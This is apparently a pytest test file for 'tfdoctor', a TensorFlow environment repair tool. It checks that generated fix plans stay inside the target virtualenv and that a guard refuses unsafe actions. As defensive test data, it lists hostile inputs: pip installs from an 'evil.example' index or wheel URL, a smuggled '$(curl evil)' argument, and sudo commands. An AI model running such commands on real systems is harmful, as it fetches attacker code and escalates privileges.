"""Fixes as data: every plan tfdoctor builds stays inside the target environment, and the guards
`tfdoctor fix` runs before anything (the action check, the TensorFlow version check) refuse what
would leave it.

The walk collects every finding of the recorded TensorFlow releases (tests/data/tf-releases/, each
also with the usual breakages applied to its facts) and of every real paste of the explain corpus
(tests/data/explain/), and checks each plan: its text is the finding's fix, it survives the report's
JSON, and every action `fix` would run is a pip install/uninstall of named packages or an activation
line whose paths all lie in the target environment.
"""

from __future__ import annotations

import copy
import json
from pathlib import Path

import corpus
import pytest
from schema_check import validate
from tf_releases import load_release, release_names

from tfdoctor import plan as P
from tfdoctor.compat import load_matrix
from tfdoctor.model import Finding, Report, Status
from tfdoctor.render import fixtext
from tfdoctor.repair import hook_text, refusal, tensorflow_change
from tfdoctor.report import build_report

MATRIX = load_matrix()
# Every id whose plan holds something `fix` runs; the walk must meet each of them.
RUNNABLE_IDS = {
    "cuda.libraries-missing", "cudnn.missing", "cudnn.version-mismatch", "cuda.nvcc-differs",
    "tensorflow.conflicting-installs", "tensorflow.cpu-only-build", "tensorflow.missing",
    "tensorflow.import-failed", "python.numpy-abi-mismatch", "python.protobuf-mismatch",
    "keras.keras3-api-change", "xla.toolchain-missing", "runtime.import-failed",
}


def _breakages(facts: dict) -> list[dict]:
    """The facts as recorded, and with the usual breakages of a TensorFlow venv applied."""
    out = [facts]
    dists = facts["tensorflow"]["distributions"]
    tfv = facts["tensorflow"].get("version") or "2.21.0"
    for change in ({"numpy": "2.1.3"}, {"keras": "2.15.0"}, {"keras": "3.0.5"}, {"tensorflow-cpu": tfv},
                   {"nvidia-cuda-runtime-cu11": "11.8.89", "nvidia-cuda-runtime-cu12": "12.5.82"}):
        broken = copy.deepcopy(facts)
        broken["tensorflow"]["distributions"] = {**dists, **change}
        out.append(broken)
    no_cudnn = copy.deepcopy(facts)
    no_cudnn["tensorflow"]["distributions"] = {k: v for k, v in dists.items() if "cudnn" not in k}
    out.append(no_cudnn)
    if isinstance(facts.get("runtime"), dict) and facts["runtime"].get("steps"):
        broken = copy.deepcopy(facts)  # the worker's import raised (a broken install)
        broken["runtime"]["steps"] = [{"name": "import", "status": "fail",
                                       "error": "ImportError: libtensorflow_cc.so.2: cannot open"}]
        out.append(broken)
    return out


def _findings() -> list[tuple[str, Finding]]:
    found = []
    for name in release_names():
        for quick in (False, True):
            for facts in _breakages(load_release(name, quick=quick)):
                report = build_report("quick" if quick else "full", facts, MATRIX)
                found += [(name, f) for f in report.findings]
    for split in corpus.SPLITS:
        for case in corpus.cases(split):
            from tfdoctor.logs.lines import read_lines
            from tfdoctor.report import explain_report

            with open(case["path"], "rb") as fh:
                found += [(case["file"], f) for f in explain_report(read_lines(fh)).findings]
    return found


@pytest.fixture(scope="module")
def findings() -> list[tuple[str, Finding]]:
    return _findings()


def _prefix(python: str) -> Path:
    path = Path(python)
    return path.parent.parent if path.is_absolute() else Path("/env")


def test_every_plan_stays_in_its_environment(findings):
    seen: set[str] = set()
    for source, f in findings:
        if f.plan is None:
            continue
        assert f.fix == f.plan.text(), (source, f.id)
        for action in f.plan.runnable:
            assert refusal(action, _prefix(f.plan.python)) is None, (source, f.id, action)
            assert not any(word in ("sudo", "su", "doas") for arg in action.args for word in arg.split())
            seen.add(f.id)
        for action in f.plan.actions:
            if action.kind == "pip":  # exact argv, the target interpreter's pip: no shell text in it
                assert all("$(" not in a and "&&" not in a for a in action.args), (source, f.id, action)
    assert RUNNABLE_IDS <= seen, RUNNABLE_IDS - seen


def test_every_warning_and_failure_with_a_plan_renders_it(findings):
    """The report's JSON carries the plan beside the fix text; every view takes its commands from it."""
    for source, f in findings[:4000]:
        if f.plan is None or f.status < Status.WARN:
            continue
        data = json.loads(json.dumps(f.to_dict()))
        back = Finding.from_dict(data)
        assert back.plan == f.plan and back.fix == f.fix, (source, f.id)
        parts = fixtext.parts(data)
        assert list(parts.commands) == list(dict.fromkeys(c for c in f.plan.commands() if c.strip()))


def test_reports_with_plans_validate_and_old_reports_still_read():
    facts = load_release("tf-2.15.1", quick=True)
    facts["tensorflow"]["distributions"]["numpy"] = "2.1.3"
    report = build_report("quick", facts, MATRIX).to_dict()
    validate(report)
    numpy = next(f for f in report["findings"] if f["id"] == "python.numpy-abi-mismatch")
    first = numpy["plan"]["actions"][0]
    assert first == {"kind": "pip", "args": ["install", "tensorflow==2.15.1", "numpy<2"], "text": "",
                     "why": first["why"]}
    old = copy.deepcopy(report)
    for f in old["findings"]:
        del f["plan"]  # a report saved before plans existed
    validate(old)
    assert Finding.from_dict(next(f for f in old["findings"] if f["id"] == numpy["id"])).plan is None


@pytest.mark.parametrize("bad", [
    "not a plan", {"actions": "x"}, {"python": "", "actions": []},
    {"python": "p", "actions": [{"kind": "rm"}]},
    {"python": "p", "actions": [{"kind": "pip", "args": [1]}]},
    {"python": "p", "actions": [{"kind": "pip", "args": ["x" * 4000] * 10}]},
])
def test_a_malformed_saved_plan_is_dropped_never_run(bad):
    assert P.Plan.from_dict(bad) is None
    f = {"id": "cudnn.missing", "status": "fail", "title": "t", "fix": "pip install x", "plan": bad}
    assert Finding.from_dict(f).plan is None and fixtext.parts(f).commands


PREFIX = Path("/home/u/venv")


@pytest.mark.parametrize(("action", "why"), [
    (P.pip("download", "tensorflow"), "only install and uninstall"),
    (P.pip("install", "--target", "/tmp/x", "numpy"), "--target"),
    (P.pip("install", "--user", "numpy"), "--user"),
    (P.pip("install", "--index-url", "https://evil.example/simple", "numpy"), "--index-url"),
    (P.pip("install", "/tmp/evil.whl"), "not a package requirement"),
    (P.pip("install", "evil @ https://evil.example/evil.whl"), "not a package requirement"),
    (P.pip("install", "$(curl evil)"), "not a package requirement"),
    (P.pip("install", "-e", "."), "-e"),
    (P.hook("export LD_LIBRARY_PATH=/usr/local/cuda/lib64"), "outside"),
    (P.hook("sudo ldconfig"), "sudo"),
    (P.hook("/usr/bin/python3 -m pip install x"), "outside"),
    (P.system("sudo ubuntu-drivers install"), "never run"),
    (P.env("TF_FORCE_GPU_ALLOW_GROWTH", "true"), "never run"),
])
def test_the_guard_refuses_what_would_leave_the_environment(action, why):
    assert why in (refusal(action, PREFIX) or "")


def test_the_guard_lets_the_environments_own_steps_run():
    assert refusal(P.pip("install", "tensorflow[and-cuda]==2.21.0", "numpy<2"), PREFIX) is None
    assert refusal(P.pip("uninstall", "-y", "tensorflow-cpu"), PREFIX) is None
    hook = P.hook("export LD_LIBRARY_PATH=$(/home/u/venv/bin/python -c 'import nvidia')${X:+:x}")
    assert refusal(hook, PREFIX) is None
    assert "outside" in (refusal(hook, Path("/home/u/other")) or "")


DISTS = {"tensorflow": "2.15.1", "numpy": "2.0.2"}


@pytest.mark.parametrize(("actions", "changes"), [
    ([P.pip("install", "tensorflow==2.15.1", "numpy<2")], False),
    ([P.pip("install", "tensorflow[and-cuda]==2.15.1")], False),
    ([P.pip("install", "keras==2.15.*")], False),
    ([P.pip("install", "tensorflow[and-cuda]==2.16.*")], True),
    ([P.pip("install", "--upgrade", "tensorflow")], False),  # the resolver may upgrade: caught after applying
    ([P.pip("install", "tensorflow<2.11")], True),
    ([P.pip("uninstall", "-y", "tensorflow")], True),
    ([P.pip("uninstall", "-y", "tensorflow"), P.pip("install", "tensorflow==2.15.1")], False),
])
def test_a_tensorflow_version_change_is_seen_before_anything_runs(actions, changes):
    assert (tensorflow_change(actions, DISTS) is not None) is changes


def test_the_activation_block_is_written_once_and_replaced():
    base = "# venv activate\nexport VIRTUAL_ENV=/v\n"
    once = hook_text(base, ["export A=1"])
    twice = hook_text(once, ["export A=2"])
    assert twice.startswith(base) and twice.count("# >>> tfdoctor fix >>>") == 1
    assert "export A=2" in twice and "export A=1" not in twice


def test_a_report_built_from_plans_is_the_one_rendered():
    plan = P.make("/v/bin/python", P.pip("install", "numpy<2", why="NumPy 1.x"), P.system("sudo reboot"))
    f = Finding("python.numpy-abi-mismatch", Status.FAIL, "t", plan=plan)
    assert f.fix == "/v/bin/python -m pip install 'numpy<2' && sudo reboot  # NumPy 1.x"
    report = Report("full", {}, {}, [f], created_at="2026-01-01T00:00:00+00:00")
    md = report.to_markdown()
    assert "```sh\n/v/bin/python -m pip install 'numpy<2'\nsudo reboot\n```" in md
    windows = P.make("C:\\Program Files\\py\\python.exe", P.pip("install", "tensorflow<2.11"), windows=True)
    assert windows.text() == '"C:\\Program Files\\py\\python.exe" -m pip install "tensorflow<2.11"'


def test_fix_refuses_the_systems_python_before_any_work():
    """Only a venv or conda env is changed: the interpreter this test venv was made from is not one."""
    import os
    import subprocess
    import sys

    system = os.path.join(sys.base_prefix, "bin", "python3")
    for args in (("--yes",), ("--dry-run",), ("--undo", "--yes")):
        res = subprocess.run([sys.executable, "-m", "tfdoctor", "fix", "--python", system, *args],
                             capture_output=True, text=True, timeout=60)
        assert res.returncode == 2 and "not a virtual environment or conda env" in res.stderr, res.stderr
        assert "Traceback" not in res.stderr and not res.stdout


def test_the_python_api_refuses_as_the_cli_does():
    import os
    import sys

    import tfdoctor

    with pytest.raises(tfdoctor.InputError, match="not a virtual environment"):
        tfdoctor.fix(python=os.path.join(sys.base_prefix, "bin", "python3"), quiet=True)
    with pytest.raises(TypeError, match="yes must be True or False"):
        tfdoctor.fix(yes="yes")
    with pytest.raises(tfdoctor.InputError, match="no such file"):
        tfdoctor.fix(python="/nonexistent/bin/python")
